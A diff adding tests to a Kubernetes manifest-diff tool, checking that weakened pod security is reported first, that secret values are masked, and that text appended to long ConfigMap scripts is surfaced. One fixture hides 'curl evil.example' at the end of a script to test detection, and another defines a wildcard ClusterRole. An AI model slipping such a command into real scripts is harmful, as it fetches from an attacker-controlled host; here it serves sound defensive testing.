@@ -131,6 +131,103 @@ test('what cuts running jobs fails with 3 where that is asked for, and only then
   });
 });
 
+const WEAKENED = edited(FLEET, ['namespace-gitlab-jobs.yaml', 'enforce: baseline', 'enforce: privileged']);
+
+test('weakened security fails with 3 where that is asked for, alone or beside what cuts jobs', () => {
+  withRepository((repository) => {
+    write(repository, WEAKENED);
+    const status = (...weights: readonly string[]) =>
+      diff(repository, ...weights.flatMap((weight) => ['--fail-on', weight]), 'main').status;
+    expect([status(), status('disruptive'), status('security'), status('disruptive', 'security')]).toEqual([
+      0, 0, 3, 3,
+    ]);
+    write(repository, edited(WEAKENED, ['amd64-spot/role.yaml', '      - delete\n', '']));
+    expect([status('disruptive'), status('security'), status('security', 'disruptive')]).toEqual([3, 3, 3]);
+  });
+});
+
+describe('weakened security in a change that does much else', () => {
+  /** A release of all runners, forty runners that are new, and one thing that nobody should see. */
+  const crowd = Array.from({ length: 40 }, (_, index) =>
+    FLEET.filter(({ path }) => path.includes('/runners/amd64-spot/')).map(({ path, text }) => ({
+      path: path.replace('/amd64-spot/', `/more-${index}/`),
+      text: text.replaceAll('amd64-spot', `more-${index}`),
+    })),
+  ).flat();
+  const hidden = edited(
+    [...WEAKENED, ...crowd],
+    ['deployment.yaml', /alpine-v[\d.]+/, 'alpine-v19.2.0'],
+    ['amd64-spot/role.yaml', '      - delete\n', ''],
+  );
+
+  test('stands first in every format, and is never folded', () => {
+    withRepository((repository) => {
+      write(repository, hidden);
+      const text = diff(repository).stdout;
+      expect(text).toMatch(/^acme: security is weaker after this change\n\nsecurity \[/);
+      expect(text.indexOf('Pods are admitted that were refused before.')).toBeLessThan(
+        text.indexOf('disruptive ['),
+      );
+      const note = diff(repository, '--format', 'markdown').stdout;
+      const [, , , , heading, , ...rows] = note.split('\n');
+      expect(heading).toBe(':unlock: **acme: security is weaker after this change**');
+      expect(
+        rows.findIndex((row) => row.includes('Pods are admitted that were refused before')),
+      ).toBeLessThan(rows.findIndex((row) => row.startsWith('<details>') || row.includes(':red_circle:')));
+      // GitHub takes no more.
+      expect(note.length).toBeLessThan(65_536);
+      const json = JSON.parse(diff(repository, '--format', 'json').stdout);
+      expect([json.heaviest, json.weights]).toEqual([
+        'security',
+        expect.arrayContaining(['security', 'disruptive']),
+      ]);
+      expect(json.clusters[0].impacts[0].weight).toBe('security');
+    });
+  });
+
+  test('is not said where nothing is weaker', () => {
+    withRepository((repository) => {
+      write(repository, LOWERED);
+      for (const format of ['text', 'markdown', 'json'])
+        expect(diff(repository, '--format', format).stdout).not.toMatch(/security/);
+    });
+  });
+});
+
+test('a new object is shown with its fields, never with a value that is secret', () => {
+  withRepository((repository) => {
+    const secret =
+      'apiVersion: v1\nkind: Secret\nmetadata: { name: a, namespace: b }\nstringData: { key: hunter2 }\n';
+    const role =
+      'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: { name: all }\nrules: [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }]\n';
+    write(repository, [
+      ...FLEET,
+      { path: 'acme/secret.yaml', text: secret },
+      { path: 'acme/role.yaml', text: role },
+    ]);
+    for (const format of ['text', 'markdown', 'json']) {
+      const { stdout } = diff(repository, '--format', format);
+      expect(stdout).toMatch(/stringData\.key"?(: |",\s+"after": ")a value/);
+      expect(stdout).toMatch(/rules\[\*\]\.verbs/);
+      expect(stdout).not.toContain('hunter2');
+    }
+  });
+});
+
+test('what is added to the end of a long value is shown', () => {
+  withRepository((repository) => {
+    const script = (end: string) => ({
+      path: 'acme/script.yaml',
+      text: `apiVersion: v1\nkind: ConfigMap\nmetadata: { name: script }\ndata: { run.sh: "${'echo fine; '.repeat(40)}${end}" }\n`,
+    });
+    commit(repository, [...FLEET, script('')]);
+    write(repository, [...FLEET, script('curl evil.example')]);
+    expect(diff(repository, 'HEAD').stdout).toMatch(
+      /data\["run.sh"\]: \.\.\..* -> \.\.\..*curl evil\.example/,
+    );
+  });
+});
+
 test('a base without dist/ counts as empty, and that is said', () => {
   withRepository((repository) => {
     git(repository, 'rm', '-r', '--quiet', 'dist');
@@ -157,7 +254,7 @@ describe('bad input is a sentence and an exit code of 2:', () => {
     ['a revision that looks like an option', ['--', '--output=x'], /git knows no revision --output=x/],
     ['a head that is not there', ['main', 'nowhere'], /git knows no revision nowhere/],
     ['an unknown format', ['--format', 'html'], /Allowed choices are text, markdown, json/],
-    ['an option that is none', ['--fail-on', 'anything'], /Allowed choices are disruptive/],
+    ['an option that is none', ['--fail-on', 'anything'], /Allowed choices are security, disruptive/],
   ])('%s', (_, args, says) => {
     withRepository((repository) => {
       const { status, stdout, stderr } = diff(repository, ...args);
